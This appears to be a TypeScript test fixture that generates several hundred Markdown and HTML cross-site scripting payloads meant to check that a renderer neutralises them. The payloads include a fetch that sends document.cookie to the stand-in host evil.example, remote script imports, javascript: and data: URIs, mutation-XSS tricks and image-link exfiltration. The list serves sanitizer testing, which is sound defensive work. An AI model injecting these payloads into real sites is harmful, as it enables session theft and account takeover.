/** What an attacker would like a browser to run, each marked so that a hit can be told apart. */
const SCRIPTS = [
  'alert(1)',
  'window.__hit=1',
  'fetch("//evil.example/?"+document.cookie)',
  'import("//evil.example/x.js")',
];

const TAGS = [
  '<script>$</script>',
  '<SCRIPT\n>$</SCRIPT >',
  '<img src=x onerror=$>',
  '<img src="//evil.example/p.png">',
  '<svg onload=$>',
  '<svg><script>$</script></svg>',
  '<svg><animate onbegin=$ attributeName=x></svg>',
  '<iframe srcdoc="<script>$</script>"></iframe>',
  '<iframe src="javascript:$"></iframe>',
  '<object data="data:text/html,<script>$</script>"></object>',
  '<embed src="javascript:$">',
  '<body onload=$>',
  '<details open ontoggle=$>',
  '<video><source onerror=$></video>',
  '<input autofocus onfocus=$>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src onerror=$>">',
  '<form action="javascript:$"><button>go</button></form>',
  '<a href="javascript:$">x</a>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:$">',
  '<template><img src=x onerror=$></template>',
  '<noscript><p title="</noscript><img src=x onerror=$>">',
  '<textarea><img title="</textarea><img src=x onerror=$>"></textarea>',
  '<div style="background:url(//evil.example/x)">x</div>',
  '<!--><img src=x onerror=$>-->',
  '<![CDATA[<img src=x onerror=$>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">$</x:script>',
];

const ADDRESSES = [
  'javascript:$',
  'JaVaScRiPt:$',
  ' javascript:$',
  'java\tscript:$',
  'javascript&colon;$',
  '&#106;avascript:$',
  'javascript&#x3A;$',
  'vbscript:$',
  'data:text/html,<script>$</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=$>',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/',
  '/console/api/people',
  '\\\\evil.example\\x',
  'https:evil.example',
  'https://user:pass@evil.example/',
  'https://good.example@evil.example/',
  'mailto:a@b.example?subject=x" onclick="$',
  'https://evil.example/" onmouseover="$',
  "https://evil.example/' onmouseover='$",
];

const CARRIERS = [
  '[link](<$>)',
  '[link]($ "title")',
  '![image](<$>)',
  '![image]($ "x" )',
  '<$>',
  '[link][r]\n\n[r]: <$>',
  '![image][r]\n\n[r]: <$>',
  '[![nested](<$>)](<$>)',
];

const WRAPPINGS = ['$', '> $', '- $', '| a | b |\n|---|---|\n| $ | x |', '`$`', '# $', '**$**'];

function* generated(): Generator<string> {
  for (const [index, tag] of TAGS.entries()) {
    const script = SCRIPTS[index % SCRIPTS.length] ?? '';
    for (const wrapping of WRAPPINGS)
      yield wrapping.replace('$', () => tag.replaceAll('$', script));
  }
  for (const [index, address] of ADDRESSES.entries()) {
    const filled = address.replaceAll('$', SCRIPTS[index % SCRIPTS.length] ?? '');
    for (const carrier of CARRIERS) yield carrier.replaceAll('$', filled);
  }
  yield '```<img src=x onerror=alert(1)>\ncode\n```';
  yield '```js" onmouseover="alert(1)\ncode\n```';
  yield '<javascript:alert(1)>';
  yield 'www.evil.example/?q=secret';
  yield '&lt;script&gt;alert(1)&lt;/script&gt;';
  yield '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>';
  yield '\u202e<img src=x onerror=alert(1)>';
  yield '$$\\href{javascript:alert(1)}{x}$$';
  yield '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```';
  yield '<br onclick=alert(1)>';
  yield '[x](https://evil.example/?data=secret)![](https://evil.example/pixel)';
}

/** Markdown that must never do anything; more than four hundred, always the same. */
export const ATTACKS: readonly string[] = [...new Set(generated())];
